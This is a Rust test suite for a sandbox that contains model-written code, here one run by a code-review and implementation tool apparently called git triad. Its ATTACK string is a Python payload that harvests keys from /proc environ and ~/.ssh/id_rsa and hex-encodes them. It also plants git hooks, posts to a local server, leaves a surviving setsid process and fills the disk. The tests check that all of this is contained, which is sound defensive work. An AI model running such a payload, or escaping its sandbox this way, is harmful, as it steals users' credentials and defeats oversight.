//! The box from outside: code a model wrote (a test the verify command runs, an arbiter's
//! probe) tries every way out, against the real binary, real repositories and the scripted
//! server. Nothing leaves (no key reaches a record or a model), nothing is written outside
//! the box, nothing it started survives, and the record names the layers that held.

use std::path::{Path, PathBuf};

use git_triad::testkit::fake_llm::{FakeServer, Reply, Rule, Script, WireProtocol};
use serde_json::{json, Value};

use crate::common::{fake_user_config, TestEnv};
use crate::pipeline::{answer, happy_rules, run_json, stage, Scenario};

/// The key git triad holds while the attack runs.
const CANARY: &str = "sk-canary-5e1f0c9d7a3b";

/// A private file of the user's.
const PRIVATE: &str = "-----BEGIN PRIVATE KEY----- private-canary-84d2";

/// The seconds of the `sleep` the attack leaves behind (to find it afterwards).
const SURVIVOR: &str = "3331";

/// Python statements defining `stolen()`: each way out tried (aimed by `targets.json` in the
/// tree it runs on), what it got joined in its result (hex-encoded, as the attack seen in the
/// wild did), and one line a way saying how it was stopped.
const ATTACK: &str = r#"import binascii, json, os, socket, subprocess


def stolen():
    aim = json.load(open('targets.json'))
    found = []

    def tried(what, how):
        print('%s: %s' % (what, how))

    for pid in os.listdir('/proc'):
        if pid.isdigit():
            try:
                env = open('/proc/%s/environ' % pid, 'rb').read()
                if b'KEY' in env:
                    found.append('environ:' + binascii.hexlify(env).decode())
            except OSError as e:
                tried('environ', type(e).__name__)
    try:
        found.append('ssh:' + binascii.hexlify(open(aim['home'] + '/.ssh/id_rsa', 'rb').read()).decode())
    except OSError as e:
        tried('ssh', type(e).__name__)
    writes = [('home', aim['home'] + '/pwned'), ('hook', aim['repo'] + '/.git/hooks/post-checkout'),
              ('other', aim['other'] + '/planted')]
    for what, path in writes:
        try:
            with open(path, 'w') as f:
                f.write('#!/bin/sh\necho pwned\n')
            found.append('wrote:' + path)
        except OSError as e:
            tried(what, type(e).__name__)
    try:
        s = socket.create_connection(('127.0.0.1', aim['port']), 3)
        s.sendall(b'POST /stolen HTTP/1.0\r\nContent-Length: 2\r\n\r\nhi')
        found.append('connected')
    except OSError as e:
        tried('tcp', type(e).__name__)
    try:
        subprocess.Popen(['sleep', '3331'], start_new_session=True)
    except OSError as e:
        tried('setsid', type(e).__name__)
    try:
        with open('big', 'wb') as f:
            for _ in range(1024):
                f.write(bytes(1 << 20))
        found.append('wrote 1 GB')
    except OSError as e:
        tried('big', e.strerror)
    return ' '.join(found)
"#;

/// Everything the attack may try to reach.
struct Targets {
    /// The user's home (the box gets another).
    home: PathBuf,
    /// The user's repository.
    repo: PathBuf,
    /// Another repository of the user's.
    other: PathBuf,
}

impl Targets {
    fn new(env: &TestEnv, repo: &Path, base_url: &str) -> Targets {
        let home = env.home();
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_rsa"), PRIVATE).unwrap();
        let other = env.repo("other", &[("README", "another repository\n")]);
        let port: u16 = base_url
            .rsplit(':')
            .next()
            .and_then(|p| p.trim_end_matches('/').parse().ok())
            .expect("the server's port");
        // The attack reads where to aim from the tree it runs on.
        let aim = json!({"home": home, "repo": repo, "other": other, "port": port});
        env.write_files(repo, &[("targets.json", &aim.to_string())]);
        env.commit_all(repo, "where the attack aims");
        Targets {
            home,
            repo: repo.to_path_buf(),
            other,
        }
    }

    /// Asserts nothing of the attack reached out: no file written, nothing left running,
    /// the server never reached, and neither the key nor the private file in `texts` (what
    /// was recorded, printed, or sent to a model) or in any object of the repository.
    fn assert_contained(&self, env: &TestEnv, server: &FakeServer, texts: &[String]) {
        assert!(!self.home.join("pwned").exists(), "wrote into the home");
        assert!(
            !self.repo.join(".git/hooks/post-checkout").exists(),
            "planted a hook in the user's repository"
        );
        assert!(
            !self.other.join("planted").exists(),
            "wrote into another repository"
        );
        assert!(
            !server.requests().iter().any(|r| r.path.contains("stolen")),
            "reached the server"
        );
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while survivors() > 0 {
            assert!(
                std::time::Instant::now() < deadline,
                "a setsid child outlived the box"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let objects = env
            .git(
                &self.repo,
                &["cat-file", "--batch-all-objects", "--batch", "--unordered"],
            )
            .ok()
            .stdout
            .clone();
        let mut all: Vec<&str> = texts.iter().map(String::as_str).collect();
        all.push(&objects);
        let bodies: Vec<String> = server.requests().into_iter().map(|r| r.body).collect();
        all.extend(bodies.iter().map(String::as_str));
        for secret in [CANARY, PRIVATE] {
            let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
            for text in &all {
                assert!(!text.contains(secret), "{secret} left the box");
                assert!(!text.contains(&hex), "{secret} left the box, hex-encoded");
            }
        }
    }
}

/// How many `sleep` processes the attack left.
fn survivors() -> usize {
    crate::common::sleepers(SURVIVOR).len()
}

/// Which layers this machine gives, so what each test asserts is what the record must say.
fn landlock() -> bool {
    git_triad::sandbox::found().landlock_abi > 0
}

/// Whether this machine gives the box a network layer (its own namespace, or Landlock's TCP
/// rules).
fn network() -> bool {
    let f = git_triad::sandbox::found();
    f.namespaces & libc::CLONE_NEWNET != 0 || f.landlock_abi >= 4
}

/// The lines the attack prints for the ways out that were stopped, in order.
const STOPPED: [&str; 6] = ["ssh: ", "home: ", "hook: ", "other: ", "tcp: ", "big: "];

#[test]
fn a_test_the_implementer_writes_cannot_get_out_of_the_verify_command() {
    // The implementer's answer adds a "test" that is the attack; the verify command runs it
    // and fails with what it found, so its output goes back to the model (the channel the
    // attack in the wild used).
    let test_file = format!(
        "{ATTACK}\n\nif __name__ == '__main__':\n    print('STOLEN', stolen())\n    raise SystemExit(1)\n"
    );
    let blocks = format!(
        "calc.py\n<<<<<<< SEARCH\n    raise NotImplementedError\n=======\n    return a - b\n>>>>>>> REPLACE\n\ntests/test_attack.py\n<<<<<<< SEARCH\n=======\n{test_file}>>>>>>> REPLACE\n"
    );
    let mut rules = happy_rules();
    rules[1] = stage(
        "implement",
        vec![Reply::text(answer(&blocks, "implement sub()"))],
    );
    let mut s = Scenario::new(rules);
    let t = Targets::new(&s.env, &s.repo, &s.server.base_url());
    s.env.set("FAKE_OPENAI_KEY", CANARY);
    s.env.write_user_config(&format!(
        "{}\n[verify]\ncommand = \"test ! -f tests/test_attack.py || python3 tests/test_attack.py\"\ntimeout_secs = 120\n[sandbox]\nfile_mb = 64\n",
        fake_user_config(&s.server.base_url())
    ));
    let r = s
        .env
        .triad(&s.repo, &["run", "--task", "add-sub", "--json"]);
    let out = run_json(&r.stdout);
    // The attack ran, and its output went back to the implementer: with nothing in it.
    let retry = s.requests_for("implement");
    assert!(retry.len() >= 2, "{out}");
    let told = retry[1].to_string();
    assert!(told.contains("STOLEN"), "{told}");
    if landlock() {
        for line in STOPPED {
            assert!(told.contains(line), "{line} was not stopped: {told}");
        }
        assert!(told.contains("big: File too large"), "{told}");
    }
    let records = s.git(&["log", "-p", "--all", "--format=%B"]);
    t.assert_contained(
        &s.env,
        &s.server,
        &[r.stdout.clone(), r.stderr.clone(), records],
    );
    // The record names the layers that held around the command.
    let run = out["run"].as_str().unwrap();
    let state: Value =
        serde_json::from_str(&s.git(&["show", &format!("refs/triad/runs/{run}:run.json")]))
            .unwrap();
    let layers = &state["sandbox"];
    assert_eq!(layers["filesystem"]["held"], landlock(), "{layers}");
    assert_eq!(layers["network"]["held"], network(), "{layers}");
    for held in ["limits", "environment"] {
        assert_eq!(layers[held]["held"], true, "{held}: {layers}");
    }
    if git_triad::sandbox::found().namespaces & libc::CLONE_NEWPID != 0 {
        assert_eq!(layers["processes"]["held"], true, "{layers}");
    }
}

#[test]
fn an_arbiter_s_probe_cannot_get_out_of_the_box() {
    let (server, mut env, repo, t) =
        review_with_probe("from attack import stolen\nassert stolen() == ''");
    env.set("FAKE_OPENAI_KEY", CANARY);
    let r = env.triad(&repo, &["review", "HEAD", "--note", "--format", "json"]);
    r.ok();
    let review: Value = serde_json::from_str(&r.stdout).unwrap();
    let probe = &review["issues"][0]["probe"];
    if landlock() {
        // Every way out failed, so the probe's assertion holds.
        assert_eq!(probe["outcome"], "refuted", "{review}");
        let layers = &review["sandbox"];
        assert_eq!(layers["network"]["held"], network(), "{layers}");
        for held in ["filesystem", "limits", "environment"] {
            assert_eq!(layers[held]["held"], true, "{held}: {layers}");
        }
    } else {
        assert_eq!(probe["outcome"], "unprobed", "{review}");
    }
    let note = env
        .git(&repo, &["notes", "--ref=triad", "show", "HEAD"])
        .ok()
        .stdout
        .clone();
    t.assert_contained(&env, &server, &[r.stdout.clone(), r.stderr.clone(), note]);
}

/// A trusted repository (aimed at by the attack's targets) whose HEAD adds a correct `mul`
/// and the attack beside it, and a scripted arbiter that rejects it with one issue carrying
/// `probe`.
fn review_with_probe(probe: &str) -> (FakeServer, TestEnv, PathBuf, Targets) {
    let issue = json!({"severity": "critical", "category": "security", "path": "calc.py",
                       "start_line": 6, "end_line": 6, "quote": "    return a * b",
                       "description": "mul leaks", "suggestion": "s", "evidence": "e",
                       "probe": probe});
    let server = FakeServer::start_blocking(Script::new(vec![Rule::named("arbiter")
        .protocol(WireProtocol::OpenAi)
        .model("model-b")
        .reply(Reply::json(json!({"verdict": "REJECT", "confidence": 0.9,
                                  "reasoning": "r", "issues": [issue], "alternatives": []})))]))
    .unwrap();
    let env = TestEnv::new();
    env.write_user_config(&format!(
        "{}\n[sandbox]\nfile_mb = 64\n",
        fake_user_config(&server.base_url())
    ));
    let repo = env.repo("proj", &[("calc.py", "def add(a, b):\n    return a + b\n")]);
    let targets = Targets::new(&env, &repo, &server.base_url());
    env.write_files(
        &repo,
        &[
            (
                "calc.py",
                "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n",
            ),
            ("attack.py", ATTACK),
        ],
    );
    env.commit_all(&repo, "mul");
    env.git(&repo, &["config", "triad.trusted", "true"]).ok();
    (server, env, repo, targets)
}

#[test]
fn doctor_says_which_layers_hold_as_the_box_found_them() {
    let env = TestEnv::new();
    let repo = env.repo("proj", &[("a.txt", "a\n")]);
    let r = env.triad(&repo, &["doctor", "--json"]);
    let report: Value = serde_json::from_str(&r.stdout).unwrap();
    let found = git_triad::sandbox::found();
    assert_eq!(
        report["layers"]["filesystem"]["held"],
        found.landlock_abi > 0,
        "{report}"
    );
    assert_eq!(
        report["layers"]["processes"]["held"],
        found.namespaces & libc::CLONE_NEWPID != 0,
        "{report}"
    );
    assert_eq!(report["require"], true);
    assert_eq!(report["runs"], found.landlock_abi > 0);
    r.expect_code(if found.landlock_abi > 0 { 0 } else { 1 });
    // The user's limits are what the record says.
    env.write_user_config("[sandbox]\nfile_mb = 7\nprocesses = 9\n");
    let text = env.triad(&repo, &["doctor"]);
    let limits = text
        .stdout
        .lines()
        .find(|l| l.trim_start().starts_with("limits"))
        .unwrap_or_default()
        .to_string();
    assert!(limits.contains("files up to 7 MiB"), "{}", text.stdout);
    for name in [
        "filesystem",
        "network",
        "processes",
        "privileges",
        "limits",
        "environment",
    ] {
        assert!(
            text.stdout
                .lines()
                .any(|l| l.trim_start().starts_with(name)),
            "{name}: {}",
            text.stdout
        );
    }
}
